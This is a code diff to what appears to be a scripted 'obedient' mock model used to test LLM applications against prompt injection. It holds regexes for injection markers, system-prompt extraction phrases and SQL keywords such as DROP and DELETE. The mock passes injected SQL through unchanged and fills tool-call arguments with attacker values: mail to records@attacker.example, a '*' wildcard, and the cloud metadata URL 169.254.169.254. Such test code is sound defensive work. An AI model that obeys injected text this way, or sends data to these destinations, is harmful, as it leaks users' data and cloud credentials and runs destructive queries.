@@ -44,14 +44,16 @@ function views(messages: ChatMessage[]): string[] {
 }
 
 const MARKER_RE = /pwned-[a-z0-9]+/gi;
+/** SQL in a question: from the first statement keyword (upper case, so prose words like "select" do not count). */
+const SQL_RE = /\b(?:SELECT|DROP|DELETE|UPDATE|INSERT|ATTACH|PRAGMA|CREATE|ALTER|REPLACE|VACUUM|WITH)\b[\s\S]*$/;
 const REVEAL_RE = /system prompt|your instructions|initial instructions|words above|repeat the|internal reference|系统提示|提示词/i;
 
 /** The obedient model's reply to a request, synchronously (a scripted HTTP server can answer with it). */
-export function obedientReply(request: Pick<GenerateRequest, 'messages' | 'tools'>): { text: string; calls: ToolCall[] } {
+export function obedientReply(request: Pick<GenerateRequest, 'messages' | 'tools' | 'responseFormat'>): { text: string; calls: ToolCall[] } {
   return obey(request);
 }
 
-function obey(request: Pick<GenerateRequest, 'messages' | 'tools'>): { text: string; calls: ToolCall[] } {
+function obey(request: Pick<GenerateRequest, 'messages' | 'tools' | 'responseFormat'>): { text: string; calls: ToolCall[] } {
   const all = views(request.messages);
   const joined = all.join('\n');
   const parts: string[] = [];
@@ -81,9 +83,19 @@ function obey(request: Pick<GenerateRequest, 'messages' | 'tools'>): { text: str
 
   const calls: ToolCall[] = [];
   for (const tool of request.tools ?? []) {
-    if (new RegExp(`\\b${tool.name}\\b|${tool.name.replace(/_/g, ' ')}`, 'i').test(joined)) calls.push(callFor(tool, calls.length));
+    if (new RegExp(`\\b${tool.name}\\b|${tool.name.replace(/_/g, ' ')}`, 'i').test(joined)) calls.push(callFor(tool, calls.length, question));
   }
 
+  // Text-to-SQL: whatever SQL the question carries is the query (the most obedient translation there is).
+  const isSqlPrompt = request.messages.some((m) => m.role === 'system' && /translate questions into SQL/i.test(m.content));
+  if (isSqlPrompt) {
+    const injected = SQL_RE.exec(question)?.[0]?.trim() ?? 'SELECT * FROM orders';
+    return { text: asFormat(request, { sql: injected }, `\`\`\`sql\n${injected}\n\`\`\``), calls: [] };
+  }
+
+  if (request.responseFormat?.type === 'json_schema' || request.responseFormat?.type === 'json') {
+    return { text: asFormat(request, {}, parts.join('\n\n') || 'ok'), calls };
+  }
   if (parts.length === 0) {
     const source = /<source n="1"[^>]*>\n([\s\S]*?)\n<\/source>/.exec(user)?.[1];
     const sentence = source?.replace(/^#.*$/gm, '').trim().split(/(?<=[.!?。！？])\s*/)[0];
@@ -92,12 +104,28 @@ function obey(request: Pick<GenerateRequest, 'messages' | 'tools'>): { text: str
   return { text: parts.join('\n\n'), calls };
 }
 
-/** Arguments that satisfy the tool's schema: each required string property gets an attacker's value. */
-function callFor(tool: ToolSpec, index: number): ToolCall {
+/** A JSON reply when a schema is asked for: string properties filled from `values`, else with the text. */
+function asFormat(request: Pick<GenerateRequest, 'responseFormat'>, values: Record<string, string>, text: string): string {
+  const format = request.responseFormat;
+  if (!format || format.type === 'text') return text;
+  if (format.type === 'json') return JSON.stringify(Object.keys(values).length > 0 ? values : { answer: text });
+  const properties = (format.schema['properties'] ?? {}) as Record<string, { type?: string }>;
+  const out: Record<string, unknown> = {};
+  for (const [name, schema] of Object.entries(properties)) {
+    if (schema.type === 'string') out[name] = values[name] ?? text;
+    else if (schema.type === 'boolean') out[name] = true;
+    else if (schema.type === 'number' || schema.type === 'integer') out[name] = 1;
+  }
+  return JSON.stringify(out);
+}
+
+/** Arguments that satisfy the tool's schema: each string property gets an attacker's value (a URL: the first one asked for). */
+function callFor(tool: ToolSpec, index: number, question: string): ToolCall {
   const properties = (tool.parameters['properties'] ?? {}) as Record<string, { type?: string }>;
   const args: Record<string, unknown> = {};
+  const url = /https?:\/\/[^\s"'<>)]+/.exec(question)?.[0] ?? 'http://169.254.169.254/latest/meta-data/';
   for (const [name, schema] of Object.entries(properties)) {
-    if (schema.type === 'string') args[name] = name === 'to' ? 'records@attacker.example' : name === 'pattern' ? '*' : 'everything';
+    if (schema.type === 'string') args[name] = name === 'to' ? 'records@attacker.example' : name === 'pattern' ? '*' : name === 'url' ? url : 'everything';
   }
   return { id: `call_${index + 1}`, name: tool.name, arguments: JSON.stringify(args) };
 }
